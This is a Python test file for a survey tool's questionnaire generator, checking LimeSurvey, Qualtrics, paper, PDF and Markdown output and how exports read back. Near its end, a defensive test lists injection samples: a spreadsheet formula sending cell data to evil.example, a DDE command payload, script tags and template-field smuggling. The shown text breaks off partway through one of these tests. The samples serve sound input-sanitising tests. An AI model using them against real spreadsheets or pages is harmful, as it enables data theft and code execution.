"""``ism-advise questionnaire``: the codebook becomes the survey, and the survey's exports
read back with no mapping.

For LimeSurvey and Qualtrics the file is written, parsed back and checked against the
tool's documented format (``tests/instruments.py``), then the tool's export of that survey
is modelled from the parsed file — columns named as the tool names them, each answer the
code or text of the option a respondent ticks, found by its wording — and read without a
mapping: it must give the same survey and the same advice as the same answers in a plain
CSV file (``tests/exports.py``). The paper form, the Markdown and the key are checked for
what a respondent and a consultant need.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

import exports as X
import instruments as I
from builders import OWN_SCALE, assert_same_survey, comparable
from conftest import DATA
from ism_advisor.questionnaire import build_questionnaire, estimate_minutes, write_questionnaire
from ism_advisor.questionnaire.limesurvey import COLUMNS
from ism_advisor.survey.codebook import load_codebook
from ism_advisor.survey.reading import load_survey

ZORG = DATA / "codebooks" / "zorggroep.yaml"
BOOK = load_codebook(ZORG)
GROUP = X.people(codebook=BOOK)
PACKAGED = load_codebook()
#: the packaged codebook as an organisation's copy: its segment questions with answer
#: options (a questionnaire never asks a segment question as free text)
OURS = I.packaged_with_options(Path(tempfile.mkdtemp()) / "ours.yaml")
OURS_BOOK = load_codebook(OURS)
#: the department options as the reading names them (in the report's language, en)
LABELS = tuple(o.label("en") for o in BOOK.segment("afdeling").options)


def written(cli, *args: str) -> bytes:
    """Run ``ism-advise questionnaire`` writing to standard output; its bytes (with the
    packaged codebook given options unless a codebook is given)."""
    if "--codebook" not in args:
        args = ("--codebook", str(OURS), *args)
    result = cli("questionnaire", *args, "-o", "-")
    assert result.exit_code == 0, result.stderr
    return result.stdout_bytes


def reference(folder, codebook=BOOK, group=GROUP):
    return X.tidy(
        folder / "reference.csv", group, codebook=codebook, segment="afdeling", departments=LABELS
    )


# -- LimeSurvey -----------------------------------------------------------------------------


def test_the_tsv_has_exactly_the_columns_limesurveys_importer_reads():
    assert COLUMNS == I.LIMESURVEY_COLUMNS


def test_limesurvey_structure_in_two_languages(cli):
    survey = I.parse_limesurvey(written(cli, "--format", "limesurvey", "--lang", "nl,en"))
    assert survey.languages == ["nl", "en"]
    settings = survey.settings
    assert (settings["anonymized"], settings["ipaddr"], settings["refurl"]) == ("Y", "N", "N")
    assert (settings["datestamp"], settings["savetimings"], settings["format"]) == ("N", "N", "G")
    welcome = survey.language_settings["nl"]["surveyls_welcometext"]
    assert "ongeveer 6 minuten" in welcome
    assert "ten minste 5 gebruikers en 5 niet-gebruikers" in welcome
    assert (
        "at least 5 users and 5 non-users" in survey.language_settings["en"]["surveyls_welcometext"]
    )
    for lang in ("nl", "en"):
        questions = survey.questions(lang)
        usage, organisation, department, *grids = questions
        assert (usage.code, usage.type, usage.mandatory) == ("user", "L", "Y")
        assert usage.answers == (
            [("1", "Ja"), ("0", "Nee")] if lang == "nl" else [("1", "Yes"), ("0", "No")]
        )
        assert [(q.code, q.type) for q in (organisation, department)] == [
            ("organisation", "L"),
            ("department", "L"),
        ]
        assert [text for _, text in department.answers] == (
            ["Verkoop", "Financiën", "ICT"] if lang == "nl" else ["Sales", "Finance", "IT"]
        )
        assert [q.type for q in grids] == ["F"] * 7
        for grid, factor in zip(grids, PACKAGED.factors, strict=True):
            assert [code for code, _ in grid.subquestions] == [i.id for i in factor.items]
            assert [text for _, text in grid.subquestions] == [i.text[lang] for i in factor.items]
            scale = PACKAGED.answer_scale(None)
            dont_know = "Weet niet" if lang == "nl" else "Don't know"
            assert grid.answers == [
                *((f"{p.value:g}", p.text(lang)) for p in scale.points),
                ("9", dont_know),
            ]
    assert [g.name for g in survey.groups["nl"]] == ["Over u"] + [
        f"Stellingen ({n} van 7)" for n in range(1, 8)
    ]


def test_the_parser_refuses_what_limesurvey_refuses(cli):
    data = written(cli, "--format", "limesurvey")
    I.parse_limesurvey(data)
    for old, new in (
        (b"\tSQ\t\tpe1\t", b"\tSQ\t\tpe_1\t"),  # an underscore in a subquestion code
        (b"\tQ\tL\tuser\t", b"\tQ\tL\tTOKEN\t"),  # a reserved question code
        (b"\tA\t0\t9\t", b"\tA\t0\t999999\t"),  # an answer code of six characters
        (b"id\trelated_id\tclass", b"id\tclass"),  # a column missing
    ):
        assert old in data
        with pytest.raises(AssertionError):
            I.parse_limesurvey(data.replace(old, new, 1))


@pytest.mark.parametrize(
    ("lang", "full"), [("nl", False), ("en", False), ("nl", True), ("en", True)]
)
def test_a_limesurvey_export_reads_back_with_no_mapping(cli, tmp_path, lang, full):
    data = written(cli, "--codebook", ZORG, "--format", "limesurvey", "--lang", "nl,en")
    survey = I.parse_limesurvey(data)
    path = I.limesurvey_export(tmp_path / "export.csv", survey, BOOK, GROUP, lang=lang, full=full)
    read = load_survey(path, BOOK, ["afdeling"])
    expected = load_survey(reference(tmp_path), BOOK, ["afdeling"])
    assert_same_survey(read, expected, segment="afdeling")
    assert str(read.source.summary()) == (
        "LimeSurvey export: 64 responses, 3 previews/incomplete left out, 11 of 11 items"
        " matched, 13 columns ignored"
    )


def test_a_limesurvey_export_gives_the_same_advice(cli, tmp_path):
    data = written(cli, "--codebook", ZORG, "--format", "limesurvey", "--lang", "nl,en")
    survey = I.parse_limesurvey(data)
    I.limesurvey_export(tmp_path / "export.csv", survey, BOOK, GROUP, lang="nl", full=False)
    reference(tmp_path)
    options = (
        *("--codebook", ZORG, "--rules", DATA / "rules" / "zorggroep_advice.yaml"),
        *("--interventions", DATA / "rules" / "zorggroep_interventions.yaml"),
        *("--segment-by", "afdeling", "--format", "json", "-o", "-"),
    )
    result = cli("export.csv", *options)
    assert result.exit_code == 0, result.stderr
    expected = cli("reference.csv", *options)
    document = json.loads(result.stdout)
    assert comparable(document) == comparable(json.loads(expected.stdout))
    assert sorted(s["value"] for s in document["segments"][1:]) == sorted(LABELS)
    assert any(s["recommendations"] for s in document["segments"])  # the rules had figures


def test_the_packaged_codebook_round_trips_through_limesurvey(cli, tmp_path):
    survey = I.parse_limesurvey(written(cli, "--format", "limesurvey", "--lang", "nl"))
    group = X.people()
    path = I.limesurvey_export(tmp_path / "e.csv", survey, OURS_BOOK, group, lang="nl", full=False)
    read = load_survey(path, OURS_BOOK, ["department"], lang="nl")
    expected = load_survey(X.tidy(tmp_path / "r.csv", group), OURS_BOOK, ["department"], lang="nl")
    assert_same_survey(read, expected)  # the department ticked among its options


# -- Qualtrics ------------------------------------------------------------------------------


def test_qualtrics_structure(cli):
    questions = I.parse_qualtrics(written(cli, "--codebook", ZORG, "--format", "qualtrics"))
    assert [(q.type, q.id) for q in questions] == [
        ("Text", "intro"),
        ("MC:SingleAnswer:Vertical", "gebruikt"),
        ("MC:SingleAnswer:Vertical", "afdeling"),
        ("Matrix", "usefulness"),
        ("Matrix", "access"),
        ("Matrix", "team"),
        ("Matrix", "worry"),
        ("Text", "closing"),
    ]
    usage, department = questions[1:3]
    assert usage.choices == [("1", "Yes"), ("0", "No")]
    assert department.choices == [
        ("1", "On a care ward"),
        ("2", "In the kitchen or facilities"),
        ("3", "In an office"),
    ]
    access = questions[4]
    assert access.text == "For each statement, choose the answer that fits you best."
    assert access.choices == [
        (str(n), i.text["en"]) for n, i in enumerate(BOOK.factor("access").items, 1)
    ]
    assert access.answers == [
        ("1", "Never"),
        ("2", "Rarely"),
        ("3", "Sometimes"),
        ("4", "Often"),
        ("5", "Always"),
        ("9", "Don't know"),
    ]
    assert questions[0].text == (
        "We would like to hear how you find ZorgPlein, also if you never use it. It takes about"
        " 3 minutes.<br><br>You answer anonymously. We only show results for groups of at"
        " least 5 colleagues."
    )


@pytest.mark.parametrize(("lang", "numeric"), [("nl", False), ("en", False), ("nl", True)])
def test_a_qualtrics_export_reads_back_with_no_mapping(cli, tmp_path, lang, numeric):
    data = written(cli, "--codebook", ZORG, "--format", "qualtrics", "--lang", lang)
    questions = I.parse_qualtrics(data)
    path = I.qualtrics_export(tmp_path / "export.csv", questions, BOOK, GROUP, numeric=numeric)
    read = load_survey(path, BOOK, ["afdeling"])
    expected = load_survey(reference(tmp_path), BOOK, ["afdeling"])
    assert_same_survey(read, expected, segment="afdeling")
    assert str(read.source.summary()) == (
        "Qualtrics export (3 header rows): 64 responses, 5 previews/incomplete left out, 11 of"
        " 11 items matched, 17 columns ignored"
    )


def test_the_packaged_codebook_round_trips_through_qualtrics(cli, tmp_path):
    questions = I.parse_qualtrics(written(cli, "--format", "qualtrics", "--lang", "nl"))
    group = X.people()
    path = I.qualtrics_export(tmp_path / "e.csv", questions, OURS_BOOK, group, numeric=False)
    read = load_survey(path, OURS_BOOK, ["department"], lang="nl")
    expected = load_survey(X.tidy(tmp_path / "r.csv", group), OURS_BOOK, ["department"], lang="nl")
    assert_same_survey(read, expected)
    pd.testing.assert_frame_equal(read.scores, expected.scores)


def test_qualtrics_takes_one_language(cli):
    result = cli("questionnaire", "--format", "qualtrics", "--lang", "nl,en")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        "Error: Invalid value for '--lang': Qualtrics' TXT import holds one language: write one"
        " file per language (--lang nl, --lang en) and add the other as a translation in"
        " Qualtrics"
    )


# -- paper ----------------------------------------------------------------------------------


class _Text(HTMLParser):
    """The visible text and the tick boxes of an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.boxes = 0
        self.skip = False

    def handle_starttag(self, tag, attrs):
        self.skip = tag in ("style", "title")
        if tag == "span" and ("class", "box") in attrs:
            self.boxes += 1

    def handle_endtag(self, tag):
        self.skip = False

    def handle_data(self, data):
        if not self.skip and data.strip():
            self.text.append(" ".join(data.split()))


def page(html: bytes) -> _Text:
    parser = _Text()
    parser.feed(html.decode("utf-8"))
    return parser


def test_the_paper_form_puts_anonymity_and_usage_first(cli):
    parsed = page(written(cli, "--codebook", ZORG, "--format", "html", "--lang", "nl"))
    text = parsed.text
    assert text[:4] == [
        "ZorgPlein: wat vindt u ervan?",
        "We horen graag hoe u ZorgPlein ervaart, ook als u het nooit gebruikt. Het invullen"
        " duurt ongeveer 3 minuten.",
        "U vult de vragenlijst anoniem in. Uitkomsten tonen we alleen voor groepen van minstens"
        " 5 collega's.",
        "Kruis bij elke vraag één hokje aan.",
    ]
    assert text[4:7] == ["1.", "Gebruikt u ZorgPlein, het sociale platform van de zorggroep?", "Ja"]
    statements = [i.text["nl"] for f in BOOK.factors for i in f.items]
    positions = [text.index(s) for s in statements]
    assert positions == sorted(positions)  # in the codebook's order, after the questions
    assert min(positions) > text.index("Op kantoor")
    # tick boxes: 2 usage answers, 3 departments, 11 statements × (5 points + don't know)
    assert parsed.boxes == 2 + 3 + 11 * 6
    assert text[-1] == "Hartelijk dank voor het invullen."


def test_the_respondents_copy_does_not_mark_reverse_coded_items(cli):
    for fmt in ("html", "md"):
        data = written(cli, "--codebook", ZORG, "--format", fmt, "--lang", "nl,en").decode()
        for marker in ("(R)", "everse", "mgekeerd", "nut3", "toe3", "usefulness"):
            assert marker not in data


def test_two_languages_on_one_paper_form(cli):
    text = page(written(cli, "--format", "html", "--lang", "nl,en")).text
    usage = text.index("Gebruikt u het interne sociale platform?")
    assert text[usage + 1] == "Do you use the internal social platform?"
    assert "Ja" in text and "/ Yes" not in text and "Yes" in text
    assert text.index("Helemaal mee eens") + 1 == text.index("Strongly agree")


def test_the_pdf_is_a4_and_reads_as_the_form(cli, tmp_path):
    result = cli("questionnaire", "--codebook", OURS, "--lang", "nl", "-o", "form.pdf")
    assert result.exit_code == 0, result.stderr
    info = subprocess.run(
        ["pdfinfo", tmp_path / "form.pdf"], capture_output=True, text=True, check=True
    ).stdout
    assert "Page size:       595.276 x 841.89 pts (A4)" in info
    pages = int(re.search(r"Pages:\s+(\d+)", info)[1])
    assert 2 <= pages <= 4
    text = subprocess.run(
        ["pdftotext", "-layout", tmp_path / "form.pdf", "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    flat = " ".join(text.split())
    assert "Uw antwoorden zijn anoniem." in flat
    assert "ten minste 5 gebruikers en 5 niet-gebruikers" in flat
    assert flat.index("Gebruikt u het interne sociale platform?") < flat.index(
        "Het platform helpt mij"
    )
    assert "Het stoort mij dat ik niet weet hoe lang mijn berichten bewaard blijven." in flat
    assert re.search(rf"\b1 ?/ ?{pages}\b", flat) and re.search(rf"\b{pages} ?/ ?{pages}\b", flat)


@pytest.mark.parametrize("lang", ["nl", "en", "nl,en"])
def test_no_grid_of_statements_splits_over_pages(cli, tmp_path, lang):
    """Each factor's grid is on one page of the PDF: the numbers of its statements, read
    from the HTML form, are all on the same page of pdftotext's text."""
    html = written(cli, "--format", "html", "--lang", lang).decode("utf-8")
    grids = [
        re.findall(r'<td class="statement"><span class="number">(\d+)\.', section)
        for section in html.split('<section class="grid">')[1:]
    ]
    assert len(grids) == len(OURS_BOOK.factors) and all(grids)
    (tmp_path / "form.pdf").write_bytes(written(cli, "--format", "pdf", "--lang", lang))
    text = subprocess.run(
        ["pdftotext", "-layout", tmp_path / "form.pdf", "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    page_of = {}
    for number, page_text in enumerate(text.split("\f"), start=1):
        for found in re.finditer(r"^\s*(\d+)\.\s", page_text, re.M):
            page_of.setdefault(found[1], number)
    pages = [sorted({page_of[n] for n in grid}) for grid in grids]
    assert all(len(on) == 1 for on in pages), pages


def test_markdown_gives_one_version_per_language(cli):
    text = written(cli, "--codebook", ZORG, "--format", "md", "--lang", "nl,en").decode()
    dutch, english = text.split("\n---\n")
    assert dutch.startswith("# ZorgPlein: wat vindt u ervan?\n")
    assert english.strip().startswith("# ZorgPlein: what do you think?\n")
    assert (
        "## 1. Gebruikt u ZorgPlein, het sociale platform van de zorggroep?\n\n- Ja\n- Nee\n"
        in dutch
    )
    assert "## 2. Where do you work?\n\n- On a care ward\n" in english
    for item in (i for f in BOOK.factors for i in f.items):
        assert re.search(rf"^\d+\. {re.escape(item.text['nl'])}$", dutch, re.M)
        assert re.search(rf"^\d+\. {re.escape(item.text['en'])}$", english, re.M)
    assert "> Matrix: Nooit · Zelden · Soms · Vaak · Altijd · Weet niet" in dutch


def test_markdown_pasted_into_google_forms_reads_back(cli, tmp_path):
    """A Google Forms grid built from the Markdown: its export (Question [Row]) reads back."""
    text = written(cli, "--codebook", ZORG, "--format", "md", "--lang", "en").decode()
    usage = re.search(r"^## 1\. (.+)$", text, re.M)[1]
    department = re.search(r"^## 2\. (.+)$", text, re.M)[1]
    header = ["Timestamp", "Email Address", usage, department]
    leads = {}
    for block in re.split(r"^## ", text, flags=re.M)[3:]:
        lead = block.splitlines()[0]
        for statement in re.findall(r"^\d+\. (.+)$", block, re.M):
            leads[statement] = lead
    items = [i for f in BOOK.factors for i in f.items]
    header += [f"{leads[i.text['en']]} [{i.text['en']}]" for i in items]
    rows = [header]
    for person in GROUP.kept():
        row = ["2026/03/02 9:21:40 AM CET", X.PLANTED["email"]]
        row.append("" if person.user is None else "Yes" if person.user else "No")
        row.append(LABELS[person.department])
        for item in items:
            factor = next(f for f in BOOK.factors if item in f.items)
            value = person.answer(item.id)
            scale = BOOK.item_scale(factor, item)
            row.append(
                ""
                if value is None
                else "Don't know"
                if value == "dk"
                else scale.points[int(value) - 1].text("en")
            )
        rows.append(row)
    path = X._write_csv(tmp_path / "forms.csv", rows)
    read = load_survey(path, BOOK, ["afdeling"])
    expected = load_survey(reference(tmp_path), BOOK, ["afdeling"])
    assert_same_survey(read, expected, segment="afdeling")


def test_paper_answers_typed_in_with_the_keys_header_read_back(cli, tmp_path):
    key = tmp_path / "key.md"
    result = cli("questionnaire", "--codebook", ZORG, "-o", "form.html", "--key", "key.md")
    assert result.exit_code == 0, result.stderr
    header = re.search(r"```\n(.+)\n```", key.read_text(encoding="utf-8"))[1]
    assert header.split(",")[:2] == ["gebruikt", "afdeling"]
    rows = [header]
    for person in GROUP.kept():
        cells = ["" if person.user is None else "1" if person.user else "0"]
        cells.append(str(person.department + 1))  # the option's number on the form
        for item in header.split(",")[2:]:
            value = person.answer(item)
            cells.append("" if value is None else "9" if value == "dk" else str(value))
        rows.append(",".join(cells))
    (tmp_path / "typed.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    read = load_survey(tmp_path / "typed.csv", BOOK, ["afdeling"])
    expected = load_survey(reference(tmp_path), BOOK, ["afdeling"])
    assert_same_survey(read, expected, segment="afdeling")


def test_the_key_marks_reverse_coded_statements_and_the_warnings(cli, tmp_path):
    result = cli("questionnaire", "--codebook", ZORG, "--lang", "en", "-o", "f.md", "--key", "k.md")
    assert result.exit_code == 0, result.stderr
    key = (tmp_path / "k.md").read_text(encoding="utf-8")
    reverse = re.findall(r"^\| \d+ \| (\w+) \|.*\| yes \(R\) \|$", key, re.M)
    assert reverse == ["nut3", "toe3"]
    assert (
        "| 1 | gebruikt | Do you use ZorgPlein, the care group's social platform? | Yes (1), No (0) |"
        in key
    )
    assert (
        "- access (Access): 1 = Never, 2 = Rarely, 3 = Sometimes, 4 = Often, 5 = Always;"
        " 9 = Don't know (read as no answer)"
    ) in key
    warning = (
        ":87:5: factor 'team' has only 2 items: with fewer than 3, its reliability"
        " (Cronbach's alpha) is poorly estimated (add items)"
    )
    # the key (a document) names the codebook by its file name, the terminal by its path
    assert f"- zorggroep.yaml{warning}\n" in key
    assert result.stderr == f"warning: {ZORG}{warning}\n"
    assert result.stdout == "f.md\nk.md\n"
    assert "- Estimated time: 3 minutes (11 statements × 8 s, 2 questions × 15 s" in key


# -- texts, checks, determinism -------------------------------------------------------------


def test_the_time_estimate():
    assert estimate_minutes(0, 0) == 1
    assert estimate_minutes(25, 3) == 6  # 60 + 200 + 45 seconds
    assert estimate_minutes(11, 2) == 3  # 60 + 88 + 30
    assert estimate_minutes(60, 5) == 11  # 60 + 480 + 75


def test_the_minimum_group_size_is_the_one_promised(cli):
    text = written(cli, "--format", "md", "--min-group-size", "8", "--lang", "nl").decode()
    assert "ten minste 8 gebruikers en 8 niet-gebruikers" in text
    with pytest.raises(Exception, match="never be below 3"):
        build_questionnaire(PACKAGED, ("nl",), min_group_size=2)


OPEN_SEGMENT = (
    "segment question '{s}' has no answer options: the questionnaire would ask it as free text,"
    " which cannot name a segment ({fix})"
)
#: the packaged codebook's one problem: every segment question without options, no place in
#: the packaged file (inside site-packages once installed), the commands to run
PACKAGED_FIX = {
    "en": (
        "the packaged codebook cannot know the answers to its segment questions"
        " ('organisation', 'department'), which the questionnaire asks as closed questions:"
        " run 'ism-advise init my-survey', list each question's answers under options in"
        " my-survey/factors.yaml (its comment shows how), then run 'ism-advise questionnaire"
        " --knowledge my-survey --format {fmt}{lang}'"
    ),
    "nl": (
        "het meegeleverde codeboek kan de antwoorden op zijn segmentvragen ('organisation',"
        " 'department') niet kennen, die de vragenlijst als gesloten vragen stelt: voer"
        " 'ism-advise init my-survey' uit, zet de antwoorden van elke vraag onder options in"
        " my-survey/factors.yaml (het commentaar daar laat zien hoe) en voer dan 'ism-advise"
        " questionnaire --knowledge my-survey --format {fmt}{lang}' uit"
    ),
}


@pytest.mark.parametrize(
    ("fmt", "lang"),
    [("qualtrics", "en"), ("limesurvey", "nl,en"), ("html", "en"), ("pdf", "nl"), ("md", "en")],
)
def test_the_packaged_codebook_asks_no_segment_question_as_free_text(cli, fmt, lang):
    suffix = "" if lang == "en" else f" --lang {lang}"
    line = PACKAGED_FIX[lang[:2]].format(fmt=fmt, lang=suffix) + "\n"
    result = cli("questionnaire", "--check", "--format", fmt, "--lang", lang)
    assert (result.exit_code, result.stderr) == (1, line)
    name = "q.txt" if fmt in ("qualtrics", "limesurvey") else f"q.{fmt}"
    result = cli("questionnaire", "--format", fmt, "--lang", lang, "-o", name)
    assert (result.exit_code, result.stderr) == (1, line)
    assert cli.files == []


SEGMENTS = ("organisation", "department")


def test_the_packaged_codebooks_fix_works_as_told(cli):
    """Following the message: init, the options under each question, the command given."""
    result = cli("questionnaire", "--format", "qualtrics")
    command = result.stderr.rstrip("\n").rsplit("then run '", 1)[1].rstrip("'")
    assert command == "ism-advise questionnaire --knowledge my-survey --format qualtrics"
    assert cli("init", "my-survey").exit_code == 0
    path = cli.folder / "my-survey" / "factors.yaml"
    text = path.read_text(encoding="utf-8")
    assert "#     options:\n#       - {id: sales, nl: Verkoop, en: Sales}\n" in text
    for question, options in I.SEGMENT_OPTIONS.items():
        text = text.replace(question, question + options)
    path.write_text(text, encoding="utf-8")
    result = cli(*command.split()[1:])
    assert (result.exit_code, result.stderr) == (0, "")
    data = (cli.folder / "questionnaire-qualtrics.txt").read_bytes()
    questions = {q.id: q for q in I.parse_qualtrics(data)}
    assert [(questions[s].type, len(questions[s].choices)) for s in SEGMENTS] == [
        ("MC:SingleAnswer:Vertical", 3),
        ("MC:SingleAnswer:Vertical", 3),
    ]


def test_an_organisations_segment_question_needs_its_options(cli, tmp_path):
    text = OURS.read_text(encoding="utf-8")
    options = next(iter(I.SEGMENT_OPTIONS.values()))
    (tmp_path / "ours.yaml").write_text(text.replace(options, "", 1), encoding="utf-8")
    fix = "list the answers under options: - {id: sales, nl: Verkoop, en: Sales}"
    result = cli(
        "questionnaire", "--codebook", "ours.yaml", "--format", "limesurvey", "-o", "q.txt"
    )
    assert result.exit_code == 1
    assert (
        result.stderr == "ours.yaml:76:5: " + OPEN_SEGMENT.format(s="organisation", fix=fix) + "\n"
    )
    assert cli.files == ["ours.yaml"]
    result = cli("questionnaire", "--codebook", OURS, "--check", "--format", "qualtrics")
    assert (result.exit_code, result.stderr) == (0, "")


@pytest.mark.parametrize("fmt", ["limesurvey", "qualtrics", "html", "pdf", "md"])
def test_the_same_codebook_gives_the_same_bytes(cli, fmt):
    args = ["--codebook", ZORG, "--format", fmt]
    lang = "nl" if fmt == "qualtrics" else "nl,en"
    first = written(cli, *args, "--lang", lang)
    assert written(cli, *args, "--lang", lang) == first
    # the library gives the same bytes
    assert (
        write_questionnaire(build_questionnaire(BOOK, lang.split(","), fmt=fmt), fmt, BOOK) == first
    )


def test_every_format_is_named_by_its_suffix(cli, tmp_path):
    for name, start in (
        ("q.html", b"<!DOCTYPE html>"),
        ("q.pdf", b"%PDF-"),
        ("q.md", b"# Questionnaire: the internal social platform"),
    ):
        result = cli("questionnaire", "--codebook", OURS, "-o", name)
        assert result.exit_code == 0, result.stderr
        assert (tmp_path / name).read_bytes().startswith(start)
    result = cli("questionnaire", "--codebook", OURS, "--format", "limesurvey")
    assert result.exit_code == 0
    assert (tmp_path / "questionnaire-limesurvey.txt").read_bytes().startswith(b"\xef\xbb\xbfid\t")


# -- reading a segment question's answer options ----------------------------------------


def _answers_csv(path, departments):
    items = [i.id for f in BOOK.factors for i in f.items]
    rows = [",".join(["gebruikt", "afdeling", *items])]
    for n, department in enumerate(departments):
        rows.append(",".join(["ja" if n % 2 else "nee", department, *["3"] * len(items)]))
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_one_option_in_any_language_code_or_position_is_one_segment(tmp_path):
    values = ["Op kantoor", "In an office", "3", "K", "kantoor", " op  KANTOOR ", "zorg", "1"]
    values += ["On a care ward", "Weet niet", ""]
    path = _answers_csv(tmp_path / "typed.csv", values)
    for lang, office, ward in (
        ("en", "In an office", "On a care ward"),
        ("nl", "Op kantoor", "Op een afdeling in de zorg"),
    ):
        survey = load_survey(path, BOOK, ["afdeling"], lang=lang)
        segment = survey.segments["afdeling"]
        assert segment.astype(object).where(segment.notna(), None).tolist() == (
            [office] * 6 + [ward] * 3 + [None, None]
        )


def test_a_value_that_is_no_option_is_refused(cli, tmp_path):
    _answers_csv(tmp_path / "typed.csv", ["Op kantoor", "1", "Zolder", "2", "3", "1"])
    result = cli(
        "typed.csv",
        *("--codebook", ZORG, "--rules", DATA / "rules" / "zorggroep_advice.yaml"),
        *("--interventions", DATA / "rules" / "zorggroep_interventions.yaml"),
        *("--segment-by", "afdeling"),
    )
    assert result.exit_code == 1
    assert result.stderr == (
        "typed.csv:4: column \"afdeling\": 'Zolder' is not an answer to segment question"
        " 'afdeling' (expected one of: On a care ward, In the kitchen or facilities, In an"
        " office)\n"
    )
    assert cli.files == ["typed.csv"]


def test_a_segment_without_options_reads_its_values_as_before(tmp_path, codebook):
    path = X.tidy(tmp_path / "plain.csv", X.people())
    survey = load_survey(path, codebook, ["department"])
    assert sorted(survey.segments["department"].cat.categories) == sorted(X.DEPARTMENTS["nl"])


def test_a_frequency_usage_question_and_a_factor_on_two_scales(cli, tmp_path):
    (tmp_path / "own.yaml").write_text(OWN_SCALE, encoding="utf-8")
    result = cli("questionnaire", "--codebook", "own.yaml", "--format", "limesurvey", "-o", "-")
    assert result.exit_code == 1
    assert result.stderr == (
        "own.yaml:28:5: segment question 'team' has no answer options: the questionnaire would"
        " ask it as free text, which cannot name a segment (list the answers under options: -"
        " {id: sales, nl: Verkoop, en: Sales}) (+1 more; --check lists every problem)\n"
    )
    result = cli("questionnaire", "--codebook", "own.yaml", "--format", "limesurvey", "--check")
    assert result.stderr.splitlines()[1] == (
        "own.yaml:22:3: the usage question's column 'hoe vaak' cannot be a LimeSurvey question"
        " code (a letter, then letters and digits, at most 20, not a reserved word): give it an"
        " alias that can"
    )
    aliased = OWN_SCALE.replace(
        "  column: hoe vaak\n", "  column: hoe vaak\n  aliases: [frequency]\n"
    ).replace(
        "    text: {nl: In welk team werkt u?, en: Which team are you in?}\n",
        "    text: {nl: In welk team werkt u?, en: Which team are you in?}\n"
        "    options:\n      - {id: noord, nl: Team Noord, en: Team North}\n"
        "      - {id: zuid, nl: Team Zuid, en: Team South}\n",
    )
    (tmp_path / "own.yaml").write_text(aliased, encoding="utf-8")
    result = cli("questionnaire", "--codebook", "own.yaml", "--format", "limesurvey", "-o", "-")
    assert result.exit_code == 0, result.stderr
    survey = I.parse_limesurvey(result.stdout_bytes)
    usage, team, *grids = survey.questions("en")
    assert (usage.code, usage.answers) == (
        "frequency",  # "hoe vaak" cannot be a question code; its alias can
        [("0", "Never"), ("1", "Monthly"), ("2", "Weekly"), ("3", "Daily")],
    )
    assert (team.code, team.type, team.answers) == (
        "team",
        "L",
        [("1", "Team North"), ("2", "Team South")],
    )
    # pe1 is answered on the agreement scale, pe2 in frequencies: one array each
    assert [(g.code, g.subquestions[0][0], g.answers[0][1]) for g in grids] == [
        ("performanceexpecta", "pe1", "Strongly disagree"),
        ("performanceexpecta2", "pe2", "Never"),
    ]
    assert result.stderr.splitlines() == [
        "warning: own.yaml:35:5: factor 'performance_expectancy' has only 2 items: with fewer"
        " than 3, its reliability (Cronbach's alpha) is poorly estimated (add items)",
    ]


# -- hostile wording (issue 24: no injection in the files we write) -----------------------

#: Wording a codebook may hold that the program opening our files would obey: spreadsheet
#: formulas, Qualtrics' own tags, HTML, the tools' expressions and piped text, line breaks.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[[Question:TE:SingleLine]]",
    "[[Block]]\n[[PageBreak]]\n[[Question:Text]]",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "Eerste regel\n\tna een tab\r\nen een regel: {TOKEN:EMAIL} ${e://Field/email}",
    "\uff1d1+1 R&D &amp; co",
    "| kolom | <b>vet</b> [[[Choice:1]]]",
)
#: What a spreadsheet reads as the start of a formula (OWASP), written out here.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def one_line(text: str) -> str:
    return " ".join(text.split())


def hostile_codebook(folder):
    """The care group's codebook with hostile wording in front of every statement and in
    the usage question, the segment question, an answer option, a label and the title:
    its path, the codebook, and each text as a respondent must see it."""
    import yaml

    book = yaml.safe_load(ZORG.read_text(encoding="utf-8"))
    items = [item for factor in book["factors"] for item in factor["items"]]
    assert len(items) == len(HOSTILE)
    for hostile, item in zip(HOSTILE, items, strict=True):
        item["text"] = {lang: f"{hostile} {text}" for lang, text in item["text"].items()}
    book["usage"]["text"] = {k: f"<b>{v}</b> [[ID:x]]" for k, v in book["usage"]["text"].items()}
    segment = book["segments"][0]
    segment["text"] = {k: f"={v} {{TOKEN:EMAIL}}" for k, v in segment["text"].items()}
    office = segment["options"][2]
    office["nl"], office["en"] = "-Op kantoor <i>", "-In an office <i>"
    book["factors"][0]["label"] = {"nl": "=Nut | <b>", "en": "=Use | <b>"}
    book["questionnaire"]["title"] = {
        k: f"<script>alert(1)</script>\n{v}" for k, v in book["questionnaire"]["title"].items()
    }
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(book, allow_unicode=True, sort_keys=False), encoding="utf-8")
    codebook = load_codebook(path)
    shown = {
        lang: {
            "title": one_line(book["questionnaire"]["title"][lang]),
            "usage": one_line(book["usage"]["text"][lang]),
            "segment": one_line(segment["text"][lang]),
            "office": office[lang],
            "statements": [one_line(item["text"][lang]) for item in items],
        }
        for lang in ("nl", "en")
    }
    return path, codebook, shown


def assert_no_formula(cells) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+", cell), repr(cell)


def test_hostile_wording_reads_as_text_in_limesurvey(cli, tmp_path):
    import html

    path, _, shown = hostile_codebook(tmp_path)
    data = written(cli, "--codebook", path, "--format", "limesurvey", "--lang", "nl,en")
    survey = I.parse_limesurvey(data)  # the importer's structure, LimeSurvey's rules
    plain = I.parse_limesurvey(written(cli, "--codebook", ZORG, "--format", "limesurvey"))
    text = data[3:].decode("utf-8")
    records = list(csv.reader(io.StringIO(text), delimiter="\t", strict=True))
    assert_no_formula(cell for record in records for cell in record)
    # no markup but our own paragraphs, no ExpressionScript, no line within a cell
    assert {tag for r in records for c in r for tag in re.findall(r"<(\w+)", c)} == {"p"}
